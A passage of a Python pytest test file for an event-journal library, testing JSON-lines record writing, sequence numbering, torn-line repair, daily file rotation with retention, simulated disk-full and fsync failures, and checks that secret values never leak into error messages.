"""Tests for fsm_exec.journal and fsm_exec.observe.oplog: the JSON-lines event log (buffered in
backtest, fsynced and rotated daily in live mode), its readers, the CSV export and the
operational log."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import enum
import errno
import io
import json
import math
import os
import re
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from types import MappingProxyType
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st
from loguru import logger

from fsm_exec import (
    CSV_COLUMNS,
    ComponentError,
    EventLogError,
    EventLogger,
    JournalCorruptError,
    Severity,
    disable_logging,
    enable_logging,
    export_csv,
    journal_files,
    read_journal,
)
from fsm_exec.journal.codec import decode, encode, iso_timestamp
from fsm_exec.journal.export import check_backtest_id, csv_cell
from fsm_exec.journal.files import journal_name, repair_torn_tail
from fsm_exec.journal.reader import read_records
from fsm_exec.observe.oplog import MIRRORED

from kit import CANARY

EM = "ExecutionManager"
D0 = dt.date(2024, 3, 1)
FRAGMENT = b'{"seq": 3, "timestamp": "2024-03-'  # what a crash mid-write leaves
HAS_DEV_FULL = Path("/dev/full").exists()
needs_dev_full = pytest.mark.skipif(not HAS_DEV_FULL, reason="needs /dev/full")


# ------------------------------------------------------------------------ helpers


def _refuse_constant(token: str) -> Any:
    raise ValueError(f"{token} is not strict JSON")


def strict(line: bytes | str) -> Any:
    """Parse JSON, refusing the NaN/Infinity tokens strict JSON does not have."""
    return json.loads(line, parse_constant=_refuse_constant)


def lines_of(path: Path) -> list[dict[str, Any]]:
    """Every line of a journal file as strict JSON; the file must hold whole lines only."""
    raw = path.read_bytes()
    assert raw == b"" or raw.endswith(b"\n"), f"{path} ends with a partial line"
    return [strict(line) for line in raw.split(b"\n")[:-1]]


def seqs(path: Path) -> list[int]:
    return [r["seq"] for r in lines_of(path)]


def raw_record(seq: int, component: str = EM, **data: Any) -> bytes:
    return encode({"seq": seq, "timestamp": "2024-03-01T00:00:00+00:00", "event_type": "tick",
                   "component": component, "data": data})


def dated(log_dir: Path, day: dt.date, first: int = 0, component: str = EM) -> Path:
    """The name a rotated file of ``component`` started on ``day`` gets: the day, then the
    seq of its first record (names never decide the order; the seq inside does)."""
    stem = journal_name(component)[: -len(".jsonl")]
    return log_dir / f"{stem}.{day.isoformat()}{f'.{first}' if first else ''}.jsonl"


def set_mtime(path: Path, day: dt.date) -> None:
    """Make ``path`` look last written at noon UTC on ``day``."""
    ts = dt.datetime.combine(day, dt.time(12), dt.UTC).timestamp()
    os.utime(path, (ts, ts))


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


class Clock:
    """A ``today`` the test moves by hand."""

    def __init__(self, day: dt.date = D0) -> None:
        self.day = day

    def __call__(self) -> dt.date:
        return self.day

    def advance(self, days: int = 1) -> None:
        self.day += dt.timedelta(days=days)


class PartialWrite:
    """``os.write`` that writes half of the first call's bytes, then fails: disk full."""

    def __init__(self) -> None:
        self.calls = 0
        self.real = os.write

    def __call__(self, fd: int, data: Any) -> int:
        self.calls += 1
        if self.calls == 1:
            return self.real(fd, data[: len(data) // 2])
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def fail(code: int) -> Callable[..., Any]:
    def boom(*_: Any) -> Any:
        raise OSError(code, os.strerror(code))
    return boom


def full_disk_journal(log_dir: Path, *components: str) -> None:
    """Point the journals of ``components`` at /dev/full: every real write fails ENOSPC."""
    log_dir.mkdir(parents=True, exist_ok=True)
    for c in components:
        (log_dir / journal_name(c)).symlink_to("/dev/full")


class Secretive:
    """An object whose repr and str would leak a secret."""

    def __repr__(self) -> str:
        return CANARY

    __str__ = __repr__


class Side(enum.Enum):
    BUY = "buy"


@dataclasses.dataclass
class Fill:
    price: float
    qty: int


@attrs.define
class Quote:
    bid: Decimal
    ask: float
    at: dt.datetime


class Stamp(dt.datetime):
    """A datetime subclass (as pandas.Timestamp is) with its own isoformat."""

    def isoformat(self, sep: str = "T", timespec: str = "auto") -> str:
        return "stamp:" + super().isoformat(sep, timespec)


class NumpyLike:
    """A scalar with ``item()``, as numpy scalars have."""

    def item(self) -> float:
        return 2.5


# ------------------------------------------------------------------------ construction


@pytest.mark.parametrize("kwargs", [{"mode": "paper"}, {"mode": "LIVE"}, {"mode": ""},
                                    {"retention_days": 0}, {"retention_days": -3}])
def test_bad_mode_or_retention_is_refused(tmp_path: Path, kwargs: dict[str, Any]) -> None:
    """Only backtest and live are modes; retention_days must be at least 1."""
    with pytest.raises(ValueError, match=r"mode|retention_days"):
        EventLogger(tmp_path, **kwargs)


def test_defaults(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Defaults: ./logs/events, backtest mode, 30 days of retention."""
    monkeypatch.chdir(tmp_path)
    with EventLogger() as el:
        assert (el.log_dir, el.mode, el.retention_days) == (Path("logs/events"), "backtest", 30)
    assert (tmp_path / "logs" / "events").is_dir()


def test_log_dir_is_created(tmp_path: Path) -> None:
    """The log directory is created, parents included, and the journal lives in it."""
    with EventLogger(tmp_path / "a" / "b", "live") as el:
        assert (tmp_path / "a" / "b").is_dir()
        assert el.path_for(EM) == tmp_path / "a" / "b" / "execution_manager_events.jsonl"


def test_log_dir_that_cannot_be_created_raises_event_log_error(tmp_path: Path) -> None:
    """A log directory that cannot be made is an EventLogError naming it."""
    (tmp_path / "file").write_text("x")
    with pytest.raises(EventLogError, match=r"cannot create log directory .*file"):
        EventLogger(tmp_path / "file" / "logs")


@pytest.mark.parametrize("mode", ["backtest", "live"])
def test_context_manager_closes_and_close_is_idempotent(tmp_path: Path, mode: str) -> None:
    """Leaving the with-block closes the logger (records on disk); close() twice is fine."""
    with EventLogger(tmp_path, mode) as el:
        el.log_event(0, "tick", EM, {"i": 1})
    assert seqs(el.path_for(EM)) == [1]
    el.close()
    el.close()


@pytest.mark.parametrize("mode", ["backtest", "live"])
def test_writing_after_close_raises(tmp_path: Path, mode: str) -> None:
    """A closed logger refuses to write, with an EventLogError; nothing reaches the file."""
    el = EventLogger(tmp_path, mode)
    el.log_event(0, "tick", EM, {})
    el.close()
    with pytest.raises(EventLogError, match="closed"):
        el.log_event(0, "tick", EM, {})
    assert seqs(el.path_for(EM)) == [1]


# ------------------------------------------------------------------------ file names


@pytest.mark.parametrize(("component", "name"), [
    ("ExecutionManager", "execution_manager_events.jsonl"),
    ("PositionUpdateHandler", "position_update_handler_events.jsonl"),
    ("HTTPVenue", "http_venue_events.jsonl"),
    ("MyHTTPVenueV2", "my_http_venue_v2_events.jsonl"),
    ("venue", "venue_events.jsonl"),
    ("risk_check", "risk_check_events.jsonl"),
    ("Risk Check!", "risk_check_events.jsonl"),
])
def test_journal_name_is_the_component_in_snake_case(component: str, name: str) -> None:
    """One file per component, named in snake case; acronyms stay one word."""
    assert journal_name(component) == name


@pytest.mark.parametrize("component", ["", "--", "  ", "!!"])
def test_component_name_without_letters_or_digits_is_refused(component: str) -> None:
    """A component name that gives no file name is refused."""
    with pytest.raises(ValueError, match="no letters or digits"):
        journal_name(component)


@pytest.mark.parametrize("mode", ["backtest", "live"])
def test_each_component_has_its_own_file_and_seq(tmp_path: Path, mode: str) -> None:
    """Records go to their component's file; each file counts its own seq from 1."""
    with EventLogger(tmp_path, mode) as el:
        for i in range(3):
            el.log_event(i, "tick", EM, {"i": i})
            el.log_event(i, "fill", "HTTPVenue", {"i": i})
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != ".lock") == [
        "execution_manager_events.jsonl", "http_venue_events.jsonl"]
    for component, kind in ((EM, "tick"), ("HTTPVenue", "fill")):
        recs = lines_of(tmp_path / journal_name(component))
        assert [r["seq"] for r in recs] == [1, 2, 3]
        assert {(r["component"], r["event_type"]) for r in recs} == {(component, kind)}


@pytest.mark.parametrize("mode", ["backtest", "live"])
def test_components_sharing_a_file_share_its_seq(tmp_path: Path, mode: str) -> None:
    """Names that map to one file ("ExecutionManager", "execution_manager") share one
    writer: seq stays unique in the file and no line is interleaved."""
    with EventLogger(tmp_path, mode, buffer_bytes=64) as el:
        for i in range(20):
            el.log_event(i, "tick", EM, {"i": i})
            el.log_event(i, "tick", "execution_manager", {"i": i})
    assert seqs(tmp_path / journal_name(EM)) == list(range(1, 41))


# ------------------------------------------------------------------------ records


@pytest.mark.parametrize("mode", ["backtest", "live"])
def test_record_is_one_json_object_per_line(tmp_path: Path, mode: str) -> None:
    """Each line is {seq, timestamp, event_type, component, data}; seq grows by one."""
    with EventLogger(tmp_path, mode) as el:
        for i in range(4):
            el.log_event(dt.datetime(2024, 3, 1, 12, i, tzinfo=dt.UTC), "block_transition", EM,
                         {"block_id": f"b{i}", "attempt": i})
    recs = lines_of(tmp_path / "execution_manager_events.jsonl")
    assert recs[2] == {"seq": 3, "timestamp": "2024-03-01T12:02:00+00:00",
                       "event_type": "block_transition", "component": EM,
                       "data": {"block_id": "b2", "attempt": 2}}
    assert [r["seq"] for r in recs] == [1, 2, 3, 4]


@pytest.mark.parametrize(("ts", "iso"), [
    (dt.datetime(2024, 3, 1, 9, 30, 0, 250, tzinfo=dt.UTC), "2024-03-01T09:30:00.000250+00:00"),
    (dt.datetime(2024, 3, 1, 9, 30, tzinfo=dt.timezone(dt.timedelta(hours=2))),
     "2024-03-01T09:30:00+02:00"),
    (dt.datetime(2024, 3, 1, 9, 30), "2024-03-01T09:30:00"),
    (Stamp(2024, 3, 1, tzinfo=dt.UTC), "stamp:2024-03-01T00:00:00+00:00"),
    (dt.date(2024, 3, 1), "2024-03-01"),
    (0, "1970-01-01T00:00:00+00:00"),
    (1709285400, "2024-03-01T09:30:00+00:00"),
    (1.5, "1970-01-01T00:00:01.500000+00:00"),
    ("T1", "T1"),
    ("2024-03-01 whatever", "2024-03-01 whatever"),
])
def test_timestamp_is_iso_8601(tmp_path: Path, ts: Any, iso: str) -> None:
    """Datetimes by isoformat, epoch seconds as UTC, strings as given; the manager's own
    records only when that is a time (every reader refuses one that is none)."""
    from fsm_exec.boundary.timestamps import parse_timestamp

    assert iso_timestamp(ts) == iso
    with EventLogger(tmp_path, "live") as el:
        el.log_event(ts, "tick", "Strategy", {})
        if parse_timestamp(iso, naive_is_utc=True) is None:
            with pytest.raises(EventLogError, match="is no time"):
                el.log_event(ts, "tick", EM, {})
        else:
            el.log_event(ts, "tick", EM, {})
            assert lines_of(el.path_for(EM))[0]["timestamp"] == iso
    assert lines_of(el.path_for("Strategy"))[0]["timestamp"] == iso


@pytest.mark.parametrize(("ts", "text"), [
    (dt.time(9, 30), "09:30:00"),
    (math.nan, "nan"),
    (Decimal("1.5"), "1.5"),
])
def test_timestamp_of_another_kind_is_kept_as_text(ts: Any, text: str) -> None:
    """Neither a datetime, finite epoch seconds, a string nor None: its isoformat() if it
    has one, else its text."""
    assert iso_timestamp(ts) == text


def test_none_timestamp_is_now_in_utc_each_time(tmp_path: Path) -> None:
    """None stamps each record with the current UTC time, not the first record's."""
    with EventLogger(tmp_path, "live") as el:
        t0 = dt.datetime.now(dt.UTC)
        el.log_event(None, "tick", EM, {})
        time.sleep(0.002)
        t1 = dt.datetime.now(dt.UTC)
        el.log_event(None, "tick", EM, {})
        t2 = dt.datetime.now(dt.UTC)
    first, second = (dt.datetime.fromisoformat(r["timestamp"])
                     for r in lines_of(el.path_for(EM)))
    assert first.utcoffset() == dt.timedelta(0)
    assert t0 <= first <= t1 <= second <= t2


def test_repeated_timestamp_object_is_stamped_the_same(tmp_path: Path) -> None:
    """The same timestamp given again (as a backtest does within a step) gives the same text."""
    ts = dt.datetime(2024, 3, 1, tzinfo=dt.UTC)
    with EventLogger(tmp_path) as el:
        for _ in range(3):
            el.log_event(ts, "tick", EM, {})
        el.log_event(7, "tick", EM, {})
        el.log_event(7, "tick", EM, {})
    assert [r["timestamp"] for r in lines_of(el.path_for(EM))] == [ts.isoformat()] * 3 + [
        "1970-01-01T00:00:07+00:00"] * 2


# ------------------------------------------------------------------------ restarts


@pytest.mark.parametrize("mode", ["backtest", "live"])
def test_reopening_appends_and_seq_continues(tmp_path: Path, mode: str) -> None:
    """A new logger on a directory holding a journal appends to it (never truncates) and
    numbers on from the last record."""
    with EventLogger(tmp_path, mode) as el:
        for i in range(3):
            el.log_event(i, "tick", EM, {"run": 1})
    before = el.path_for(EM).read_bytes()
    with EventLogger(tmp_path, mode) as el:
        for i in range(2):
            el.log_event(i, "tick", EM, {"run": 2})
    after = el.path_for(EM).read_bytes()
    assert after.startswith(before)
    assert [(r["seq"], r["data"]["run"]) for r in lines_of(el.path_for(EM))] == [
        (1, 1), (2, 1), (3, 1), (4, 2), (5, 2)]


def test_seq_continues_from_rotated_files_when_current_file_is_empty(tmp_path: Path) -> None:
    """With an empty current file, the next seq follows the newest rotated file's last."""
    clock = Clock()
    with EventLogger(tmp_path, "live", today=clock) as el:
        for i in range(3):
            el.log_event(i, "tick", EM, {})
    current = el.path_for(EM)
    current.rename(dated(tmp_path, D0))
    current.touch()
    clock.advance()
    with EventLogger(tmp_path, "live", today=clock) as el:
        el.log_event(9, "tick", EM, {})
    assert seqs(current) == [4]
    assert [r.seq for r in read_journal(tmp_path)] == [1, 2, 3, 4]


def test_empty_journal_files_start_seq_at_one(tmp_path: Path) -> None:
    """An empty current file, and a rotated file holding only a torn fragment (never
    acknowledged), hold no records: numbering starts at 1."""
    dated(tmp_path, D0).write_bytes(FRAGMENT)
    (tmp_path / journal_name(EM)).touch()
    with EventLogger(tmp_path, "live", today=Clock(D0 + dt.timedelta(days=1))) as el:
        el.log_event(0, "tick", EM, {})
    assert seqs(el.path_for(EM)) == [1]


# ------------------------------------------------------------------------ torn tail


@pytest.mark.parametrize("mode", ["backtest", "live"])
def test_torn_last_line_is_set_aside_on_open(tmp_path: Path, mode: str) -> None:
    """A last line without its newline (a crash mid-write) goes to <file>.torn, the file is
    cut back to its last whole line, and the next record gets the next seq."""
    with EventLogger(tmp_path, mode) as el:
        el.log_event(0, "tick", EM, {})
        el.log_event(0, "tick", EM, {})
    path = el.path_for(EM)
    whole = path.read_bytes()
    with open(path, "ab") as f:
        f.write(FRAGMENT)
    with EventLogger(tmp_path, mode) as el:
        el.log_event(0, "tick", EM, {"after": True})
    assert path.with_name(path.name + ".torn").read_bytes() == FRAGMENT + b"\n"
    assert path.read_bytes().startswith(whole)
    assert [(r["seq"], r["data"]) for r in lines_of(path)] == [
        (1, {}), (2, {}), (3, {"after": True})]


def test_repair_torn_tail(tmp_path: Path) -> None:
    """repair_torn_tail leaves whole and empty files alone, cuts a torn tail (the whole file
    if it has no newline at all), and appends each tail to <file>.torn."""
    path = tmp_path / "x_events.jsonl"
    aside = tmp_path / "x_events.jsonl.torn"
    path.touch()
    assert repair_torn_tail(path) == b""
    path.write_bytes(raw_record(1))
    assert repair_torn_tail(path) == b""
    assert path.read_bytes() == raw_record(1) and not aside.exists()
    path.write_bytes(raw_record(1) + b'{"seq": 2')
    assert repair_torn_tail(path) == b'{"seq": 2'
    assert path.read_bytes() == raw_record(1)
    path.write_bytes(b'{"se')
    assert repair_torn_tail(path) == b'{"se'
    assert path.read_bytes() == b""
    assert aside.read_bytes() == b'{"seq": 2\n{"se\n'


@pytest.mark.parametrize("mode", ["backtest", "live"])
def test_torn_tail_after_a_line_longer_than_the_read_window(tmp_path: Path, mode: str) -> None:
    """Records longer than the 64 KiB tail window: the torn tail is still cut at the right
    newline and seq still continues."""
    big = "x" * 100_000
    with EventLogger(tmp_path, mode) as el:
        el.log_event(0, "tick", EM, {"big": big})
        el.log_event(0, "tick", EM, {"big": big})
    path = el.path_for(EM)
    with open(path, "ab") as f:
        f.write(b'{"seq": 3, "data": "' + b"y" * 70_000)
    with EventLogger(tmp_path, mode) as el:
        el.log_event(0, "tick", EM, {})
    assert seqs(path) == [1, 2, 3]
    assert len(path.with_name(path.name + ".torn").read_bytes()) == 70_021


@pytest.mark.parametrize("last", [
    b"this is not json\n",
    b"[1, 2, 3]\n",
    b'"a string"\n',
    b'{"timestamp": "T", "data": {}}\n',
    b'{"seq": true, "data": {}}\n',
    b'{"seq": 2.0, "data": {}}\n',
    (b'{"seq": "' + CANARY.encode() + b'"}\n'),
])
def test_corrupt_last_line_refuses_opening(tmp_path: Path, last: bytes) -> None:
    """A whole but unreadable last line refuses to open the journal, naming file and line
    (and never echoing the line)."""
    path = tmp_path / journal_name(EM)
    path.write_bytes(raw_record(1) + raw_record(2) + last)
    el = EventLogger(tmp_path, "live")
    with pytest.raises(JournalCorruptError) as info:
        el.log_event(0, "tick", EM, {})
    err = info.value
    assert (err.path, err.line, err.error_code) == (str(path), 3, "EXEC-013")
    assert err.message.startswith(f"{path}:3: ")
    assert isinstance(err, ComponentError) and isinstance(err, ValueError)
    assert CANARY not in str(err)
    el.close()
    assert path.read_bytes().endswith(last)  # left as it was, for a human to look at


# ------------------------------------------------------------------------ backtest mode


def test_backtest_buffers_until_flush(tmp_path: Path) -> None:
    """Backtest records are buffered: not on disk until flush() (or close())."""
    el = EventLogger(tmp_path, "backtest")
    el.log_event(0, "tick", EM, {})
    path = el.path_for(EM)
    assert path.read_bytes() == b""
    el.flush()
    assert seqs(path) == [1]
    el.log_event(0, "tick", EM, {})
    el.close()
    assert seqs(path) == [1, 2]


def test_backtest_buffer_spills_when_full(tmp_path: Path) -> None:
    """A full buffer goes to disk without waiting for flush; close() loses nothing."""
    el = EventLogger(tmp_path, "backtest", buffer_bytes=512)
    for i in range(50):
        el.log_event(i, "tick", EM, {"i": i})
    on_disk = el.path_for(EM).read_bytes()
    assert len(on_disk) > 512
    el.close()
    assert seqs(el.path_for(EM)) == list(range(1, 51))


def test_backtest_records_survive_interpreter_exit_without_close(tmp_path: Path) -> None:
    """A backtest logger left open when the interpreter exits still writes every record."""
    n = 500
    code = "\n".join([
        "import os, sys",
        "from fsm_exec import EventLogger",
        "el = EventLogger(sys.argv[1], 'backtest')",
        f"for i in range({n}):",
        "    el.log_event(i, 'tick', 'ExecutionManager', {'i': i})",
        "assert os.path.getsize(el.path_for('ExecutionManager')) == 0  # all still buffered",
    ])
    done = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True,
                          timeout=60, check=False)
    assert done.returncode == 0, done.stderr.decode()
    recs = lines_of(tmp_path / journal_name(EM))
    assert [r["seq"] for r in recs] == list(range(1, n + 1))
    assert [r["data"]["i"] for r in recs] == list(range(n))


@needs_dev_full
def test_backtest_write_failure_raises_event_log_error(tmp_path: Path) -> None:
    """In backtest mode a failing file write is an EventLogError naming the file (unbuffered
    here: with a buffer, the write that makes room for the next record fails)."""
    full_disk_journal(tmp_path, EM)
    el = EventLogger(tmp_path, "backtest", buffer_bytes=0)
    with pytest.raises(EventLogError, match=r"execution_manager_events\.jsonl") as info:
        el.log_event(0, "tick", EM, {"api_key": CANARY})
    assert info.value.error_code == "EXEC-009" and CANARY not in str(info.value)
    el.close()


@needs_dev_full
def test_backtest_flush_failure_raises_and_close_still_closes_everything(
        tmp_path: Path) -> None:
    """A failing flush (or close) is an EventLogError naming the file; close() still closes
    and flushes the other journals, and a second close() is a no-op."""
    full_disk_journal(tmp_path, "Broken")
    el = EventLogger(tmp_path, "backtest")
    el.log_event(0, "tick", "Broken", {"api_key": CANARY})
    el.log_event(0, "tick", EM, {})
    with pytest.raises(EventLogError, match=r"broken_events\.jsonl") as info:
        el.flush()
    assert CANARY not in str(info.value)
    with pytest.raises(EventLogError, match=r"broken_events\.jsonl"):
        el.close()
    assert seqs(tmp_path / journal_name(EM)) == [1]
    el.close()
    with pytest.raises(EventLogError, match="closed"):
        el.log_event(0, "tick", EM, {})


# ------------------------------------------------------------------------ live mode


def test_live_record_is_written_and_fsynced_before_log_event_returns(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Live: each record is on disk (read back without close) and fsynced once, after it is
    written, before log_event returns; a new file's directory is fsynced too."""
    real_fsync = os.fsync
    el = EventLogger(tmp_path, "live")
    path = el.path_for(EM)
    lines_at_fsync: list[int] = []

    def counting_fsync(fd: int) -> None:
        lines_at_fsync.append(len(lines_of(path)) if path.exists() else -1)
        real_fsync(fd)

    monkeypatch.setattr("fsm_exec.journal.writer.os.fsync", counting_fsync)
    for i in range(1, 6):
        before = len(lines_at_fsync)
        el.log_event(i, "tick", EM, {"i": i})
        assert seqs(path) == list(range(1, i + 1))
        assert len(lines_at_fsync) - before == (2 if i == 1 else 1)
        assert lines_at_fsync[-1] == i
    monkeypatch.undo()
    el.close()


def test_live_files_rotate_daily(tmp_path: Path) -> None:
    """When the day changes the current file becomes <stem>.<day>.<first seq>.jsonl and a
    new one starts;
    every event is in exactly one file, the file of its day; the readers see them in order."""
    clock = Clock()
    days: dict[int, dt.date] = {}
    with EventLogger(tmp_path, "live", today=clock) as el:
        n = 0
        for per_day in (2, 3, 1):
            for _ in range(per_day):
                n += 1
                days[n] = clock.day
                el.log_event(n, "tick", EM, {"n": n})
                el.log_event(n, "fill", "HTTPVenue", {"n": n})
            clock.advance()
    first, second = dated(tmp_path, D0, 1), dated(tmp_path, D0 + dt.timedelta(days=1), 3)
    current = tmp_path / journal_name(EM)
    assert journal_files(tmp_path) == [first, second, current]
    assert journal_files(tmp_path, "HTTPVenue") == [
        dated(tmp_path, D0, 1, component="HTTPVenue"),
        dated(tmp_path, D0 + dt.timedelta(days=1), 3, component="HTTPVenue"),
        tmp_path / journal_name("HTTPVenue")]
    assert seqs(first) == [1, 2] and seqs(second) == [3, 4, 5] and seqs(current) == [6]
    for path, day in ((first, D0), (second, D0 + dt.timedelta(days=1)),
                      (current, D0 + dt.timedelta(days=2))):
        assert {days[r["data"]["n"]] for r in lines_of(path)} == {day}
    assert [r.seq for r in read_journal(tmp_path)] == list(range(1, 7))
    assert [r.data["n"] for r in read_journal(tmp_path, "HTTPVenue")] == list(range(1, 7))


def test_no_rotation_until_a_record_is_written_on_the_new_day(tmp_path: Path) -> None:
    """Rotation happens at the first write of a new day; idle days leave no files behind."""
    clock = Clock()
    with EventLogger(tmp_path, "live", today=clock) as el:
        el.log_event(0, "tick", EM, {})
        clock.advance(5)
        assert journal_files(tmp_path) == [tmp_path / journal_name(EM)]
        el.log_event(0, "tick", EM, {})
    assert journal_files(tmp_path) == [dated(tmp_path, D0, 1), tmp_path / journal_name(EM)]


@pytest.mark.parametrize("retention", [None, 3])
def test_rotation_deletes_rotated_files_older_than_retention(tmp_path: Path,
                                                             retention: int | None) -> None:
    """At rotation, this component's rotated files that ended (the next file started) more
    than retention_days (30 by default) ago are deleted; younger ones and other components'
    files stay."""
    keep = 30 if retention is None else retention
    rotation_day = D0 + dt.timedelta(days=1)
    cutoff = rotation_day - dt.timedelta(days=keep)
    too_old = dated(tmp_path, cutoff - dt.timedelta(days=2), 1)
    ended_at_cutoff = dated(tmp_path, cutoff - dt.timedelta(days=1), 2)
    boundary = dated(tmp_path, cutoff, 3)
    other = dated(tmp_path, cutoff - dt.timedelta(days=10), 1, component="HTTPVenue")
    too_old.write_bytes(raw_record(1))
    ended_at_cutoff.write_bytes(raw_record(2))
    boundary.write_bytes(raw_record(3))
    other.write_bytes(raw_record(1, "HTTPVenue"))
    (tmp_path / "notes.txt").write_text("not a journal")
    kwargs: dict[str, Any] = {} if retention is None else {"retention_days": retention}
    clock = Clock()
    with EventLogger(tmp_path, "live", today=clock, **kwargs) as el:
        assert el.retention_days == keep
        el.log_event(0, "tick", EM, {})
        assert too_old.exists()  # deletion happens at rotation only
        clock.advance()
        el.log_event(0, "tick", EM, {})
    assert not too_old.exists()
    assert ended_at_cutoff.exists() and boundary.exists() and other.exists()
    assert dated(tmp_path, D0, 4).exists()
    assert [r.seq for r in read_journal(tmp_path)] == [2, 3, 4, 5]


def test_two_rotations_on_one_day_get_names_of_their_own(tmp_path: Path) -> None:
    """Two files rotated away on the same day are told apart by the seq they start with;
    files stay in seq order. (A reopened file's day is its last write's, its mtime.)"""
    clock = Clock()
    with EventLogger(tmp_path, "live", today=clock) as el:
        el.log_event(0, "tick", EM, {})
        clock.advance()
        el.log_event(0, "tick", EM, {})
    current = tmp_path / journal_name(EM)
    set_mtime(current, D0)
    with EventLogger(tmp_path, "live", today=clock) as el:
        el.log_event(0, "tick", EM, {})
    assert journal_files(tmp_path) == [dated(tmp_path, D0, 1), dated(tmp_path, D0, 2), current]
    assert [seqs(p) for p in journal_files(tmp_path)] == [[1], [2], [3]]
    assert [r.seq for r in read_journal(tmp_path)] == [1, 2, 3]


def test_reopened_file_is_rotated_under_the_day_it_was_last_written(tmp_path: Path) -> None:
    """A journal last written yesterday, reopened today, is rotated to yesterday's name."""
    with EventLogger(tmp_path, "live", today=Clock()) as el:
        el.log_event(0, "tick", EM, {})
    set_mtime(el.path_for(EM), D0)
    with EventLogger(tmp_path, "live", today=Clock(D0 + dt.timedelta(days=1))) as el:
        el.log_event(0, "tick", EM, {})
        el.log_event(0, "tick", EM, {})
    assert [seqs(p) for p in journal_files(tmp_path)] == [[1], [2, 3]]
    assert journal_files(tmp_path)[0] == dated(tmp_path, D0, 1)


def test_rotating_an_empty_file_leaves_no_rotated_file(tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """If the current file holds nothing when the day changes, nothing is renamed."""
    clock = Clock()
    el = EventLogger(tmp_path, "live", today=clock)
    monkeypatch.setattr("fsm_exec.journal.writer.os.write", fail(errno.ENOSPC))
    with pytest.raises(EventLogError):
        el.log_event(0, "tick", EM, {})
    monkeypatch.undo()
    clock.advance()
    el.log_event(0, "tick", EM, {})
    el.close()
    assert journal_files(tmp_path) == [el.path_for(EM)]
    assert seqs(el.path_for(EM)) == [1]


# ------------------------------------------------------------------------ write failures


@pytest.mark.parametrize("fault", ["partial_write", "write", "fsync"])
def test_live_write_failure_raises_and_takes_the_partial_line_back(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fault: str) -> None:
    """A failed write or fsync is an EventLogError (EXEC-009, CRITICAL) naming the file and
    never the record's data; the file keeps only whole records and the next record takes
    the seq the failed one would have had."""
    el = EventLogger(tmp_path, "live")
    path = el.path_for(EM)
    el.log_event(0, "tick", EM, {"ok": 1})
    el.log_event(0, "tick", EM, {"ok": 2})
    patch: Any = {"partial_write": PartialWrite(), "write": fail(errno.ENOSPC),
                  "fsync": fail(errno.EIO)}[fault]
    monkeypatch.setattr(f"fsm_exec.journal.writer.os.{'fsync' if fault == 'fsync' else 'write'}",
                        patch)
    with pytest.raises(EventLogError) as info:
        el.log_event(0, "tick", EM, {"api_key": CANARY, "ok": 3})
    monkeypatch.undo()
    err = info.value
    assert str(path) in str(err)
    assert (err.error_code, err.severity) == ("EXEC-009", Severity.CRITICAL)
    assert isinstance(err, ComponentError) and isinstance(err, OSError)
    assert isinstance(err.original_exception, OSError)
    assert CANARY not in str(err) and CANARY not in repr(err.args)
    assert [r["data"] for r in lines_of(path)] == [{"ok": 1}, {"ok": 2}]
    el.log_event(0, "tick", EM, {"ok": 4})
    el.close()
    assert [(r["seq"], r["data"]) for r in lines_of(path)] == [
        (1, {"ok": 1}), (2, {"ok": 2}), (3, {"ok": 4})]


def test_rotation_failure_raises_event_log_error(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """A rotation that fails is an EventLogError naming the file; written records stay."""
    clock = Clock()
    el = EventLogger(tmp_path, "live", today=clock)
    el.log_event(0, "tick", EM, {})
    clock.advance()
    monkeypatch.setattr("fsm_exec.journal.writer.os.rename", fail(errno.EACCES))
    with pytest.raises(EventLogError, match=r"cannot write journal .*execution_manager_events"):
        el.log_event(0, "tick", EM, {})
    monkeypatch.undo()
    el.close()
    assert seqs(el.path_for(EM)) == [1]


@pytest.mark.parametrize("mode", ["backtest", "live"])
def test_journal_that_cannot_be_opened_raises_event_log_error(tmp_path: Path,
                                                             mode: str) -> None:
    """A journal path that cannot be opened (here: a directory) is an EventLogError."""
    (tmp_path / journal_name(EM)).mkdir()
    with EventLogger(tmp_path, mode) as el, \
            pytest.raises(EventLogError, match=r"cannot open journal .*execution_manager"):
        el.log_event(0, "tick", EM, {})


# ------------------------------------------------------------------------ encoding


def test_non_finite_floats_are_tagged_as_the_canonical_form_tags_them() -> None:
    """NaN and infinities, which JSON lacks, are written in the journal's one tag scheme
    ({"__float__": "NaN"}, as canonical.to_wire writes them) and decode back to floats."""
    line = encode({"data": {"a": math.nan, "b": math.inf, "c": -math.inf, "d": [1.5, math.nan],
                            "e": (math.inf,)}})
    nan, inf, ninf = ({"__float__": x} for x in ("NaN", "Infinity", "-Infinity"))
    got = strict(line)["data"]
    assert got == {"a": nan, "b": inf, "c": ninf, "d": [1.5, nan], "e": [inf]}
    back = decode(got)
    assert math.isnan(back["a"]) and back["b"] == math.inf and back["c"] == -math.inf
    assert back["e"] == [math.inf] and back["d"][0] == 1.5 and math.isnan(back["d"][1])


@pytest.mark.parametrize("value", ["1.5", "0.1000", "-1E+3", "12345678901234567890.0001",
                                   "NaN", "-Infinity", "0E-30"])
def test_decimal_is_tagged_and_read_back_exactly(value: str) -> None:
    """A Decimal is written {"__decimal__": str}; decode gives back the same Decimal."""
    d = Decimal(value)
    got = strict(encode({"data": {"d": d, "n": None}}))["data"]
    assert got["d"] == {"__decimal__": value}
    back = decode(got)["d"]
    assert isinstance(back, Decimal) and back.as_tuple() == d.as_tuple()


def test_from_jsonable_only_undoes_the_decimal_tag() -> None:
    """decode converts tags at any depth and leaves everything else alone."""
    value = {"a": [{"__decimal__": "2.50"}, {"__decimal__": "1", "x": 1}, "s", 3, None],
             "b": {"c": {"__decimal__": "-0.1"}}, "d": {"other": "1"}}
    assert decode(value) == {
